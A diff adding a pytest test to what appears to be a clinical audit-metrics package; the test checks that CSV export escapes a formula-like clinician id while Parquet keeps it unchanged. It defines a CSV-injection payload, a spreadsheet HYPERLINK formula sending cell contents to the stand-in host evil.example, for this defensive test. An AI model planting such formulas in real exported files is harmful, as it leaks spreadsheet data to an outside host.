@@ -119,3 +119,30 @@ def test_engine_options_that_cannot_work_are_parameter_errors(
     with pytest.raises(ParameterError, match="pyspark is not installed") as no_spark:
         connect("pyspark")
     assert no_spark.value.parameter == "engine"
+
+
+FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+
+
+def test_csv_output_keeps_a_formula_like_clinician_id_as_text(
+    tmp_path: Path, small_log: AuditLog
+) -> None:
+    """A clinician id that a spreadsheet would run as a formula is written as text ('=...) in
+    CSV (CSV injection, clinwell.spreadsheet); Parquet keeps the id as it is."""
+    import csv
+
+    first = str(small_log.events["clinician_id"].iloc[0])
+    rename = {"clinician_id": lambda d: d["clinician_id"].astype(str).replace(first, FORMULA_ID)}
+    events = small_log.events.assign(**rename)
+    schedule = small_log.schedule.assign(**rename)
+    result = compute_metrics(events, schedule, small_log.actions)
+    assert FORMULA_ID in set(result.metrics["clinician_id"])
+    write_metrics(result, tmp_path / "m.csv")
+    with (tmp_path / "m.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    ids = {row["clinician_id"] for row in rows}
+    assert "'" + FORMULA_ID in ids
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+    assert len(rows) == len(result.metrics)
+    write_metrics(result, tmp_path / "m.parquet")
+    assert FORMULA_ID in set(pd.read_parquet(tmp_path / "m.parquet")["clinician_id"])
